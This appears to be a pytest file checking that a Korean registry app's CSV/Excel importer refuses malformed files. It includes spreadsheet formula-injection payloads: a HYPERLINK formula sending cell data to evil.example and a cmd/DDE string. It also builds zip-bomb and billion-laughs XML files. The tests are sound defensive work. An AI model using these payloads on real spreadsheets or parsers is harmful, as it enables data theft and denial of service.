"""Bulk import in ``db/imports``: every kind of bad input, on SQLite and PostgreSQL.

Each bad file is checked and then offered for import: the import is refused, the report
names the row (as Excel numbers it: header = row 1) and the column, and the database is
exactly as before (row counts, versions and the audit head). Test files are generated here.
Their records are dated today in the city or later (a normal import dates nothing in the
past: ``tests/test_import_rules.py``).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from collections.abc import Callable
from typing import Any

import openpyxl
import pandas as pd
import pytest
from openpyxl.utils.escape import unescape
from sqlalchemy import Engine, func, select

from db import audit, clock, imports
from db.errors import PermissionDenied
from db.imports import checking as rules
from db.imports import reading
from db.models import (
    AuditEvent,
    Expert,
    ExpertField,
    ExpertTie,
    Inquiry,
    Organization,
    Technology,
)
from db.policy import Actor
from db.session import read_session, write_session

ADMIN = Actor(id=None, username="import.admin", roles=frozenset({"admin"}))
STAFF = Actor(id=None, username="import.staff", roles=frozenset({"staff"}))
EXECUTIVE = Actor(id=None, username="import.exec", roles=frozenset({"executive"}))

ORGS = (
    ("한국도로공사", "Korea Expressway Corporation", "public_corporation", "KR-47", False),
    ("새솔건설(주)", "Saesol Construction", "company", "KR-27", True),
    ("감사원", "Board of Audit and Inspection", "audit_body", "KR-11", False),
)
TECH_HEADER = ["등록번호", "기술명", "보유 기관", "기술 분야", "신청일"]


@pytest.fixture
def engine(migrated_engine: Engine) -> Engine:
    """A fresh database holding three organizations to refer to."""
    now = clock.now_utc()
    with write_session(migrated_engine) as s:
        for name_ko, name_en, kind, region, local in ORGS:
            s.add(
                Organization(
                    name_ko=name_ko,
                    name_en=name_en,
                    kind=kind,
                    region=region,
                    is_local=local,
                    country="KR",
                    created_at=now,
                )
            )
    return migrated_engine


def csv_bytes(rows: list[list[str]], *, delimiter: str = ",", encoding: str = "utf-8") -> bytes:
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return buf.getvalue().encode(encoding)


def xlsx_bytes(rows: list[list[Any]]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def day(offset: int = 0) -> dt.date:
    """Today in the city, or ``offset`` days later: a date a normal import may write."""
    return clock.city_today() + dt.timedelta(days=offset)


def iso(offset: int = 0) -> str:
    return day(offset).isoformat()


def tech_row(n: int, **over: str) -> list[str]:
    row = {
        "reg_no": f"DG-2020-{n:03d}",
        "title": f"시험 기술 {n}",
        "owner": "새솔건설(주)",
        "field": "bridges",
        "submitted": iso(),
    }
    row.update(over)
    return list(row.values())


def snapshot(engine: Engine) -> dict[str, Any]:
    """Everything an import could change: row counts, versions, the audit head."""
    with read_session(engine) as s:
        counts: dict[str, Any] = {
            m.__tablename__: s.scalar(select(func.count()).select_from(m))
            for m in (Organization, Technology, Expert, ExpertField, ExpertTie, Inquiry)
        }
        counts["versions"] = tuple(
            s.scalar(select(func.coalesce(func.sum(m.version), 0)))
            for m in (Technology, Expert, Inquiry)
        )
        counts["audit_head"] = audit.read_head(s)
        counts["audit_events"] = s.scalar(select(func.count()).select_from(AuditEvent))
    return counts


def check(engine: Engine, register: str, filename: str, data: bytes) -> imports.CheckResult:
    from components.imports import vocabulary

    with read_session(engine) as s:
        return imports.check_file(
            session=s,
            actor=ADMIN,
            register=register,
            filename=filename,
            data=data,
            vocabulary=vocabulary(),
        )


def run_import(
    engine: Engine, register: str, filename: str, data: bytes, actor: Actor = ADMIN
) -> imports.ImportSummary:
    from components.imports import vocabulary

    with write_session(engine) as s:
        return imports.import_file(
            session=s,
            actor=actor,
            register=register,
            filename=filename,
            data=data,
            vocabulary=vocabulary(),
        )


def refused(engine: Engine, register: str, filename: str, data: bytes) -> imports.CheckResult:
    """Check, then try to import: refused with the same report, database unchanged."""
    before = snapshot(engine)
    result = check(engine, register, filename, data)
    assert not result.ok
    with pytest.raises(imports.ImportRefused) as caught:
        run_import(engine, register, filename, data)
    assert caught.value.result.problems == result.problems
    assert caught.value.result.problem_total == result.problem_total
    assert snapshot(engine) == before
    return result


def only(result: imports.CheckResult) -> imports.Problem:
    assert result.problem_total == 1, result.problems
    return result.problems[0]


# --- encodings ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("encoding", "detected"),
    [("utf-8", "utf-8"), ("utf-8-sig", "utf-8-sig"), ("cp949", "cp949"), ("euc-kr", "cp949")],
)
def test_korean_file_in_each_encoding_imports(engine: Engine, encoding: str, detected: str) -> None:
    data = csv_bytes([TECH_HEADER, tech_row(1, title="교량 받침 신공법")], encoding=encoding)
    result = check(engine, "technologies", "t.csv", data)
    assert result.ok, result.problems
    assert result.encoding == detected
    summary = run_import(engine, "technologies", "t.csv", data)
    assert summary.added == 1
    with read_session(engine) as s:
        assert s.scalar(select(Technology.title_ko)) == "교량 받침 신공법"


def test_undecodable_byte_names_its_row_and_column(engine: Engine) -> None:
    rows = [TECH_HEADER, tech_row(1), tech_row(2), tech_row(3, title="XBAD")]
    data = csv_bytes(rows).replace(b"XBAD", "가나".encode() + b"\xff\xfe")
    problem = only(refused(engine, "technologies", "t.csv", data))
    assert problem.rule == reading.UNDECODABLE
    assert (problem.row, problem.column) == (4, "기술명")
    assert problem.params["position"] == data.index(b"\xff") + 1


def test_undecodable_in_a_cp949_file(engine: Engine) -> None:
    rows = [TECH_HEADER, tech_row(1, title="한글 제목"), tech_row(2, owner="XBAD")]
    data = csv_bytes(rows, encoding="cp949").replace(b"XBAD", b"\x80\x80")
    problem = only(refused(engine, "technologies", "t.csv", data))
    assert problem.rule == reading.UNDECODABLE
    assert (problem.row, problem.column) == (3, "보유 기관")


# --- delimiters and headers ---------------------------------------------------------------


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_semicolon_and_tab_files_import(engine: Engine, delimiter: str) -> None:
    data = csv_bytes([TECH_HEADER, tech_row(1, title="a, b; c")], delimiter=delimiter)
    result = check(engine, "technologies", "t.csv", data)
    assert result.ok, result.problems
    assert result.delimiter == delimiter
    assert run_import(engine, "technologies", "t.csv", data).added == 1


def test_wrong_delimiter(engine: Engine) -> None:
    data = csv_bytes([TECH_HEADER, tech_row(1)], delimiter="|")
    problem = only(refused(engine, "technologies", "t.csv", data))
    assert problem.rule == reading.WRONG_DELIMITER
    assert problem.row == 1
    assert "wrong delimiter?" in problem.rule


def test_title_above_the_header_and_a_file_without_records(engine: Engine) -> None:
    data = csv_bytes([["기술 목록"], TECH_HEADER, tech_row(1)])
    problem = only(refused(engine, "technologies", "t.csv", data))
    assert (problem.row, problem.rule) == (1, reading.NOT_A_HEADER)
    problem = only(refused(engine, "technologies", "t.csv", csv_bytes([TECH_HEADER, []])))
    assert (problem.row, problem.rule) == (2, rules.NO_ROWS)
    # Another register's file: each unknown column and each missing one, by name.
    other = csv_bytes([["기관 유형", "지역", "국가"], ["company", "KR-27", "KR"]])
    result = refused(engine, "technologies", "o.csv", other)
    assert [(p.row, p.column, p.rule) for p in result.problems][:3] == [
        (1, "기관 유형", rules.UNKNOWN_HEADER),
        (1, "지역", rules.UNKNOWN_HEADER),
        (1, "국가", rules.UNKNOWN_HEADER),
    ]
    assert {p.column for p in result.problems[3:]} == set(TECH_HEADER)


def test_missing_header(engine: Engine) -> None:
    header = [h for h in TECH_HEADER if h != "신청일"]
    data = csv_bytes([header, tech_row(1)[:4]])
    problem = only(refused(engine, "technologies", "t.csv", data))
    assert (problem.row, problem.column, problem.rule) == (1, "신청일", rules.MISSING_HEADER)


def test_duplicate_header_in_two_languages(engine: Engine) -> None:
    header = [*TECH_HEADER, "Registration number"]
    data = csv_bytes([header, [*tech_row(1), "DG-2020-001"]])
    problem = only(refused(engine, "technologies", "t.csv", data))
    assert (problem.row, problem.column, problem.rule) == (
        1,
        "Registration number",
        rules.DUPLICATE_HEADER,
    )
    assert problem.params == {"other": "등록번호"}


def test_unknown_header(engine: Engine) -> None:
    data = csv_bytes([[*TECH_HEADER, "담당 부서"], [*tech_row(1), "도로과"]])
    problem = only(refused(engine, "technologies", "t.csv", data))
    assert (problem.row, problem.column, problem.rule) == (1, "담당 부서", rules.UNKNOWN_HEADER)


def test_english_headers_and_labels_are_accepted(engine: Engine) -> None:
    header = ["Registration number", "Title (Korean)", "Owner organization", "Technical field"]
    header.append("Submitted on")
    data = csv_bytes([header, tech_row(1, owner="Saesol Construction", field="Bridges")])
    assert run_import(engine, "technologies", "t.csv", data).added == 1
    dotted = f"{day().year}. {day().month}. {day().day}."  # as 2020. 3. 1.
    data = csv_bytes([TECH_HEADER, tech_row(2, field="교량", submitted=dotted)])
    assert run_import(engine, "technologies", "t.csv", data).added == 1
    with read_session(engine) as s:
        assert set(s.scalars(select(Technology.field))) == {"bridges"}


# --- rows ---------------------------------------------------------------------------------


def test_ragged_rows(engine: Engine) -> None:
    rows = [TECH_HEADER, tech_row(1), [*tech_row(2), "extra"], tech_row(3)[:3], tech_row(4)]
    result = refused(engine, "technologies", "t.csv", csv_bytes(rows))
    assert [(p.row, p.column, p.rule) for p in result.problems] == [
        (3, "F", rules.TOO_MANY_CELLS),
        (4, "기술 분야", rules.TOO_FEW_CELLS),
    ]


def test_blank_rows_are_skipped_and_counted(engine: Engine) -> None:
    rows = [TECH_HEADER, tech_row(1), [], ["", "", "", "", ""], tech_row(2), []]
    data = csv_bytes(rows)
    result = check(engine, "technologies", "t.csv", data)
    assert result.ok, result.problems
    assert (result.rows, result.blank_rows, result.to_add) == (2, 3, 2)
    summary = run_import(engine, "technologies", "t.csv", data)
    assert (summary.added, summary.blank_rows) == (2, 3)


def test_bad_value_at_data_row_10000(engine: Engine) -> None:
    rows = [TECH_HEADER] + [tech_row(n) for n in range(1, 10_001)]
    rows[10_000] = tech_row(10_000, submitted="2020-02-30")  # the 10,000th data row
    problem = only(refused(engine, "technologies", "big.csv", csv_bytes(rows)))
    assert (problem.row, problem.column, problem.value) == (10_001, "신청일", "2020-02-30")
    assert problem.rule == rules.BAD_DATE


def test_very_long_cells(engine: Engine) -> None:
    rows = [TECH_HEADER, tech_row(1, title="가" * 301), tech_row(2)]
    problem = only(refused(engine, "technologies", "t.csv", csv_bytes(rows)))
    assert (problem.row, problem.column, problem.rule) == (2, "기술명", rules.TOO_LONG)
    assert problem.params == {"length": 301, "limit": 300}
    assert len(problem.value) <= 60
    # Beyond what the CSV reader takes at all (131,072 characters): stops at that row.
    rows = [TECH_HEADER, tech_row(1), tech_row(2, title="x" * 200_000)]
    problem = only(refused(engine, "technologies", "t.csv", csv_bytes(rows)))
    assert (problem.row, problem.rule) == (3, reading.CELL_TOO_LONG_CSV)


def test_duplicates_inside_the_file(engine: Engine) -> None:
    rows = [TECH_HEADER, tech_row(1), tech_row(2), tech_row(1, title="다른 제목")]
    problem = only(refused(engine, "technologies", "t.csv", csv_bytes(rows)))
    assert (problem.row, problem.column, problem.rule) == (4, "등록번호", rules.DUPLICATE_IN_FILE)
    assert problem.params == {"first": 2}


def test_report_is_capped_with_the_total(engine: Engine) -> None:
    rows = [TECH_HEADER] + [tech_row(n, field="nonsense") for n in range(1, 501)]
    result = refused(engine, "technologies", "t.csv", csv_bytes(rows))
    assert result.problem_total == 500
    assert len(result.problems) == 200
    assert result.problems[0].row == 2


# --- formula payloads ---------------------------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_payloads_are_stored_as_typed_and_neutralised_in_exports(engine: Engine) -> None:
    from components.export import to_csv, to_xlsx
    from db.technologies import TechnologyFilters, technologies_export

    rows = [TECH_HEADER] + [tech_row(n, title=p) for n, p in enumerate(PAYLOADS, start=1)]
    data = csv_bytes(rows)
    assert run_import(engine, "technologies", "t.csv", data).added == len(PAYLOADS)
    with read_session(engine) as s:
        stored = dict(s.execute(select(Technology.reg_no, Technology.title_ko)).all())
        frame, _total = technologies_export(session=s, filters=TechnologyFilters())
    assert sorted(stored.values()) == sorted(PAYLOADS)
    titles = [c for c in frame.columns if frame[c].isin(PAYLOADS).any()]
    assert titles, frame.columns
    exported = list(csv.reader(io.StringIO(to_csv(frame).decode("utf-8-sig"))))
    col = exported[0].index(str(titles[0]))
    assert sorted(r[col] for r in exported[1:]) == sorted("'" + p for p in PAYLOADS)
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(frame))).active
    assert sheet is not None
    values = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    shown = {unescape(c.value) for c in values}  # as Excel shows them: "_x000D_" is a CR
    assert {"'" + p for p in PAYLOADS} <= shown  # exactly as typed, behind the apostrophe
    assert not [v for v in shown if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert all(c.data_type == "s" for c in values)


# --- files that are not what they say -----------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(50)


def test_csv_that_is_a_png(engine: Engine) -> None:
    problem = only(refused(engine, "technologies", "data.csv", PNG))
    assert problem.rule == reading.NOT_TEXT
    assert problem.params == {"name": "data.csv", "kind": "PNG image"}


def test_csv_that_is_a_zip(engine: Engine) -> None:
    data = xlsx_bytes([TECH_HEADER, tech_row(1)])
    problem = only(refused(engine, "technologies", "data.csv", data))
    assert problem.rule == reading.CSV_IS_ZIP


def test_xlsx_that_is_csv_text(engine: Engine) -> None:
    data = csv_bytes([TECH_HEADER, tech_row(1)])
    problem = only(refused(engine, "technologies", "data.xlsx", data))
    assert problem.rule == reading.NOT_XLSX
    assert problem.params["kind"] == "plain text"


def test_old_xls_and_unknown_suffix(engine: Engine) -> None:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100)
    assert only(refused(engine, "technologies", "old.xls", ole)).rule == reading.OLD_XLS
    assert only(refused(engine, "technologies", "t.json", b"{}")).rule == reading.WRONG_SUFFIX
    assert only(refused(engine, "technologies", "t.csv", b"")).rule == reading.EMPTY_FILE


# --- Excel --------------------------------------------------------------------------------


def test_xlsx_imports_with_dates_and_numbers(engine: Engine) -> None:
    rows: list[list[Any]] = [TECH_HEADER, tech_row(1)]
    when = dt.datetime.combine(day(30), dt.time())
    rows.append(["DG-2020-002", "엑셀 기술", "새솔건설(주)", "도로", when])
    data = xlsx_bytes(rows)
    result = check(engine, "technologies", "t.xlsx", data)
    assert result.ok, result.problems
    assert result.format == "xlsx"
    run_import(engine, "technologies", "t.xlsx", data)
    with read_session(engine) as s:
        assert s.scalar(
            select(Technology.submitted_on).where(Technology.reg_no == "DG-2020-002")
        ) == day(30)


def test_xlsx_control_characters_read_as_excel_wrote_them() -> None:
    """Excel and the app's own Excel downloads store a carriage return in a cell as
    "_x000D_": an import reads the character back, not the escape."""
    from components.export import to_xlsx
    from db.imports.report import Report

    data = to_xlsx(pd.DataFrame({"title": ["line 1\r\nline 2", "_x plain"]}))
    report = Report()
    table = reading.read_table("t.xlsx", data, report, lambda header: len(header), "title")
    assert table is not None, report
    assert [cells for _row, cells in table.rows] == [["line 1\r\nline 2"], ["_x plain"]]


def test_xlsx_bad_cell_row_and_column(engine: Engine) -> None:
    rows: list[list[Any]] = [TECH_HEADER, tech_row(1), [], tech_row(3, field="우주")]
    problem = only(refused(engine, "technologies", "t.xlsx", xlsx_bytes(rows)))
    assert (problem.row, problem.column, problem.value) == (4, "기술 분야", "우주")


def _zip(members: dict[str, bytes | int]) -> bytes:
    """A ZIP with the given members; an int member is that many zero bytes (streamed)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            if isinstance(content, int):
                with archive.open(name, "w", force_zip64=True) as fh:
                    chunk = bytes(1024 * 1024)
                    for _ in range(content // len(chunk)):
                        fh.write(chunk)
            else:
                archive.writestr(name, content)
    return buf.getvalue()


XLSX_SKELETON = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}


def test_xlsx_zip_bomb_by_ratio(engine: Engine) -> None:
    data = _zip({**XLSX_SKELETON, "xl/worksheets/sheet1.xml": 8 * 1024 * 1024})
    assert len(data) < 100_000
    problem = only(refused(engine, "technologies", "bomb.xlsx", data))
    assert problem.rule == reading.ZIP_BOMB_RATIO
    assert problem.params["member"] == "xl/worksheets/sheet1.xml"


def test_xlsx_zip_bomb_by_total_size(engine: Engine) -> None:
    parts: dict[str, bytes | int] = dict(XLSX_SKELETON)
    parts["xl/worksheets/sheet1.xml"] = reading.XLSX_MAX_UNCOMPRESSED + 1024 * 1024
    problem = only(refused(engine, "technologies", "bomb.xlsx", _zip(parts)))
    assert problem.rule == reading.ZIP_BOMB_SIZE


BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]>\n"
)


def _laughing(part: str) -> bytes:
    """A real workbook whose ``part`` declares a billion-laughs entity and uses it."""
    original = xlsx_bytes([TECH_HEADER, tech_row(1)])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(original)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            content = src.read(info.filename)
            if info.filename == part:
                body = content.split(b"?>", 1)[-1]
                body = body.replace(b"DG-2020-001", b"&lol9;", 1)
                content = BILLION_LAUGHS + body
            dst.writestr(info, content)
    return out.getvalue()


@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/styles.xml", "xl/workbook.xml"])
def test_xlsx_billion_laughs_is_refused_by_defusedxml(engine: Engine, part: str) -> None:
    import defusedxml
    import openpyxl.xml

    data = _laughing(part)
    assert openpyxl.xml.DEFUSEDXML  # openpyxl found defusedxml and parses through it
    with pytest.raises(Exception) as caught:
        book = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
        for _row in book.worksheets[0].iter_rows(values_only=True):
            pass
    chain: list[BaseException] = []
    exc: BaseException | None = caught.value
    while exc is not None:
        chain.append(exc)
        exc = exc.__cause__ or exc.__context__
    assert any(isinstance(e, defusedxml.DefusedXmlException) for e in chain), chain
    problem = only(refused(engine, "technologies", "laughs.xlsx", data))
    assert problem.rule == reading.XML_ATTACK


# --- the write path -----------------------------------------------------------------------


def test_reimport_changes_nothing(engine: Engine) -> None:
    data = csv_bytes([TECH_HEADER, tech_row(1), tech_row(2)])
    first = run_import(engine, "technologies", "t.csv", data)
    assert (first.added, first.updated, first.unchanged) == (2, 0, 0)
    before = snapshot(engine)
    again = run_import(engine, "technologies", "t.csv", data)
    assert (again.added, again.updated, again.unchanged) == (0, 0, 2)
    after = snapshot(engine)
    assert {k: v for k, v in after.items() if not k.startswith("audit")} == {
        k: v for k, v in before.items() if not k.startswith("audit")
    }
    assert after["audit_events"] == before["audit_events"] + 1  # the import event only
    with read_session(engine) as s:
        event = s.scalars(select(AuditEvent).order_by(AuditEvent.id.desc()).limit(1)).one()
        assert (event.action, event.entity, event.entity_id) == (
            "import.completed",
            "import",
            again.sha256,
        )
        assert '"unchanged":2' in (event.after or "")
        assert audit.verify(s).ok


def test_update_bumps_version_and_audits_each_record(engine: Engine) -> None:
    run_import(engine, "technologies", "t.csv", csv_bytes([TECH_HEADER, tech_row(1), tech_row(2)]))
    changed = csv_bytes([TECH_HEADER, tech_row(1, title="바뀐 제목"), tech_row(2)])
    result = check(engine, "technologies", "t2.csv", changed)
    assert (result.to_add, result.to_update, result.unchanged) == (0, 1, 1)
    summary = run_import(engine, "technologies", "t2.csv", changed)
    assert (summary.added, summary.updated, summary.unchanged) == (0, 1, 1)
    with read_session(engine) as s:
        tech = s.scalars(select(Technology).where(Technology.reg_no == "DG-2020-001")).one()
        assert (tech.title_ko, tech.version) == ("바뀐 제목", 2)
        events = s.scalars(
            select(AuditEvent).where(AuditEvent.action == "technology.import_updated")
        ).all()
        assert [e.entity_id for e in events] == [str(tech.id)]
        assert '"title_ko":"시험 기술 1"' in (events[0].before or "")
        assert '"title_ko":"바뀐 제목"' in (events[0].after or "")
        assert audit.verify(s).ok


def test_lifecycle_of_an_existing_technology_is_not_changed_by_import(engine: Engine) -> None:
    header = [*TECH_HEADER, "상태", "등록일"]
    run_import(engine, "technologies", "t.csv", csv_bytes([header, [*tech_row(1), "", ""]]))
    data = csv_bytes([header, [*tech_row(1), "registered", iso(10)]])
    problem = refused(engine, "technologies", "t.csv", data).problems[0]
    assert (problem.row, problem.column, problem.rule) == (2, "상태", rules.LIFECYCLE_BY_WORKFLOW)


def test_import_refused_for_other_roles_and_audited(engine: Engine) -> None:
    data = csv_bytes([TECH_HEADER, tech_row(1)])
    before = snapshot(engine)
    with pytest.raises(PermissionDenied):
        run_import(engine, "technologies", "t.csv", data, actor=EXECUTIVE)
    after = snapshot(engine)
    assert after["technologies"] == before["technologies"] == 0
    assert after["audit_events"] == before["audit_events"] + 1
    with read_session(engine) as s:
        event = s.scalars(select(AuditEvent).order_by(AuditEvent.id.desc()).limit(1)).one()
        assert (event.action, event.actor_name) == ("permission.denied", "import.exec")
        assert "import.run" in (event.after or "")
        with pytest.raises(PermissionDenied):
            imports.check_file(
                session=s, actor=EXECUTIVE, register="technologies", filename="t.csv", data=data
            )
    assert run_import(engine, "technologies", "t.csv", data, actor=STAFF).added == 1


# --- the other registers ------------------------------------------------------------------


def test_organizations_import_and_natural_key(engine: Engine) -> None:
    rows = [
        ["기관명", "영문 기관명", "기관 유형", "지역", "지역 소재"],
        ["대구테크(주)", "", "기업", "대구광역시", ""],
        ["한국도로공사", "Korea Expressway Corporation", "공기업", "KR-47", "아니오"],
        ["외국시", "Foreign City", "foreign_city", "", ""],
    ]
    result = refused(engine, "organizations", "o.csv", csv_bytes(rows))
    assert [(p.row, p.column, p.rule) for p in result.problems] == [
        (4, "지역", rules.REGION_REQUIRED)
    ]
    rows[3] = ["외국시", "Foreign City", "foreign_city", "", "", "JP"]
    rows[0] = [*rows[0], "국가"]
    for r in rows[1:3]:
        r.append("")
    summary = run_import(engine, "organizations", "o.csv", csv_bytes(rows))
    assert (summary.added, summary.updated, summary.unchanged) == (2, 0, 1)
    with read_session(engine) as s:
        org = s.scalars(select(Organization).where(Organization.name_ko == "대구테크(주)")).one()
        assert (org.name_en, org.region, org.is_local, org.country) == (
            "대구테크(주)",
            "KR-27",
            True,
            "KR",
        )


def test_experts_with_fields_and_ties(engine: Engine) -> None:
    header = ["성명", "소속 기관", "소속 구분", "위촉일", "전문 분야", "이해관계 신고", "이메일"]
    rows = [
        header,
        ["김민준", "한국도로공사", "공공기관", iso(), "교량; structural", "", "a@b.kr"],
        [
            "이서연",
            "새솔건설(주)",
            "industry",
            day(1).strftime("%Y.%m.%d"),
            "도로",
            "새솔건설(주) | 재직 | 2015-01-01",
            "",
        ],
    ]
    assert run_import(engine, "experts", "e.csv", csv_bytes(rows)).added == 2
    with read_session(engine) as s:
        fields = set(s.execute(select(ExpertField.field)).scalars())
        assert fields == {"bridges", "structural", "roads"}
        tie = s.execute(select(ExpertTie.kind, ExpertTie.started_on)).one()
        assert tuple(tie) == ("employment", dt.date(2015, 1, 1))
    # Same file again: unchanged; a new tie and another field: one update, version 2.
    assert run_import(engine, "experts", "e.csv", csv_bytes(rows)).unchanged == 2
    rows[2][4] = "도로; 터널"
    rows[2][5] += "; 한국도로공사 | consulting | 2018-01-01 | 2018-12-31"
    summary = run_import(engine, "experts", "e.csv", csv_bytes(rows))
    assert (summary.updated, summary.unchanged) == (1, 1)
    with read_session(engine) as s:
        expert = s.scalars(select(Expert).where(Expert.name == "이서연")).one()
        assert expert.version == 2
        assert {f.field for f in expert.fields} == {"roads", "tunnels"}
        assert s.scalar(select(func.count()).select_from(ExpertTie)) == 2
    bad = [
        header,
        ["박지호", "한국도로공사", "public", iso(), "", "한국도로공사 | 친척", "x@"],
    ]
    result = refused(engine, "experts", "e.csv", csv_bytes(bad))
    assert [(p.row, p.column) for p in result.problems] == [(2, "이해관계 신고"), (2, "이메일")]


def test_a_row_matching_two_records_in_the_register_is_refused(engine: Engine) -> None:
    now = clock.now_utc()
    with write_session(engine) as s:
        org_id = s.scalar(select(Organization.id).where(Organization.name_ko == "감사원"))
        for _ in range(2):  # two people of the same name in one body, entered by hand
            s.add(
                Expert(
                    name="김하나",
                    organization_id=org_id,
                    affiliation="public",
                    registered_on=dt.date(2019, 1, 2),
                    created_at=now,
                )
            )
    rows = [["성명", "소속 기관", "소속 구분", "위촉일"]]
    rows.append(["김하나", "감사원", "public", "2019-01-02"])
    problem = only(refused(engine, "experts", "e.csv", csv_bytes(rows)))
    assert (problem.row, problem.column, problem.rule) == (2, "성명", rules.DUPLICATE_IN_REGISTER)
    assert problem.params == {"count": 2}


def test_inquiries_import_with_status_dates(engine: Engine) -> None:
    header = ["기관", "접수일", "경로", "주제", "상태", "방문일"]
    rows = [
        header,
        ["감사원", iso(), "방문", "플랫폼 운영 점검", "방문 완료", iso(15)],
        ["Board of Audit and Inspection", iso(30), "email", "후속 문의", "visit_held", ""],
        ["감사원", iso(60), "call", "일정", "received", iso(51)],
    ]
    result = refused(engine, "inquiries", "i.csv", csv_bytes(rows))
    assert [(p.row, p.column, p.rule) for p in result.problems] == [
        (3, "방문일", rules.STATUS_NEEDS_DATE),
        (4, "방문일", rules.DATE_BEFORE),
    ]
    rows[2][5] = iso(40)
    rows[3][5] = ""
    summary = run_import(engine, "inquiries", "i.csv", csv_bytes(rows))
    assert summary.added == 3
    assert run_import(engine, "inquiries", "i.csv", csv_bytes(rows)).unchanged == 3


def test_an_import_records_later_inquiry_steps_never_earlier_ones(engine: Engine) -> None:
    """The inquiry lifecycle (``db.domain``) holds for imports too: a re-import may move an
    inquiry on (answered, then benchmarked without a visit), never back."""
    header = ["기관", "접수일", "경로", "주제", "상태", "회신일", "벤치마킹일"]
    today = day().isoformat()  # a normal import dates nothing before today in the city
    row = ["감사원", today, "방문", "플랫폼 운영 점검", "answered", today, ""]
    assert run_import(engine, "inquiries", "i.csv", csv_bytes([header, row])).added == 1
    later = [*row[:4], "benchmarked", today, today]
    assert run_import(engine, "inquiries", "i.csv", csv_bytes([header, later])).updated == 1
    back = [*row[:4], "received", "", ""]
    problem = only(refused(engine, "inquiries", "i.csv", csv_bytes([header, back])))
    assert (problem.row, problem.column, problem.rule) == (2, "상태", rules.STATUS_GOES_BACK)
    assert problem.params == {"current": "benchmarked"}


def test_templates_import_cleanly(engine: Engine) -> None:
    """Each register's Excel and CSV template (example row) passes the check in both languages."""
    from components.imports import template_csv, template_xlsx

    run_import(
        engine,
        "organizations",
        "o.csv",
        csv_bytes([["기관명", "기관 유형", "지역"], ["새솔건설(주)", "company", "KR-27"]]),
    )
    for key, register in imports.REGISTERS.items():
        for lang in ("ko", "en"):
            for name, data in (
                (f"{key}.csv", template_csv(register, lang)),
                (f"{key}.xlsx", template_xlsx(register, lang)),
            ):
                result = check(engine, key, name, data)
                assert result.ok, (key, lang, name, result.problems)
                assert result.rows == 1


# --- size ---------------------------------------------------------------------------------

TIMINGS: dict[str, float] = {}


@pytest.mark.parametrize("error_at_end", [False, True], ids=["valid", "error-at-end"])
def test_100000_rows(engine: Engine, error_at_end: bool, backend: str) -> None:
    import time

    n = 100_000
    header = [*TECH_HEADER, "영문 기술명", "요약"]
    rows = [header] + [
        [*tech_row(n_, title=f"기술 {n_}"), f"Technology {n_}", "요약 " * 5]
        for n_ in range(1, n + 1)
    ]
    if error_at_end:
        rows[-1][3] = "없는 분야"
    data = csv_bytes(rows)
    started = time.perf_counter()
    if error_at_end:
        problem = only(refused(engine, "technologies", "big.csv", data))
        assert (problem.row, problem.column) == (n + 1, "기술 분야")
        TIMINGS[f"{backend} refused"] = time.perf_counter() - started
        took = TIMINGS[f"{backend} refused"]
        print(f"\n100,000 rows with an error at the end, {backend}: {took:.1f} s")
        return
    result = check(engine, "technologies", "big.csv", data)
    checked = time.perf_counter() - started
    assert result.ok and result.to_add == n
    summary = run_import(engine, "technologies", "big.csv", data)
    imported = time.perf_counter() - started - checked
    assert summary.added == n
    again = time.perf_counter()
    assert run_import(engine, "technologies", "big.csv", data).unchanged == n
    reimported = time.perf_counter() - again
    print(
        f"\n100,000 rows, {backend}: check {checked:.1f} s, import {imported:.1f} s "
        f"(check again + write), re-import {reimported:.1f} s"
    )
    # How long it takes is measured in bench/ (a wall-clock limit here failed only when the
    # machine was busy); here: every row in, one event each, the chain intact.
    with read_session(engine) as s:
        assert (
            s.scalar(select(func.count()).select_from(AuditEvent)) == n + 2
        )  # records, two import events
        assert audit.verify(s).ok


Progress = Callable[[float, str], None]


def test_progress_callback_reaches_the_end(engine: Engine) -> None:
    seen: list[tuple[float, str]] = []
    data = csv_bytes([TECH_HEADER] + [tech_row(n) for n in range(1, 5000)])
    with write_session(engine) as s:
        imports.import_file(
            session=s,
            actor=ADMIN,
            register="technologies",
            filename="t.csv",
            data=data,
            progress=lambda f, stage: seen.append((f, stage)),
        )
    fractions = [f for f, _stage in seen]
    assert fractions == sorted(fractions)
    assert {stage for _f, stage in seen} == {"check", "write"}
    assert fractions[-1] == 1.0
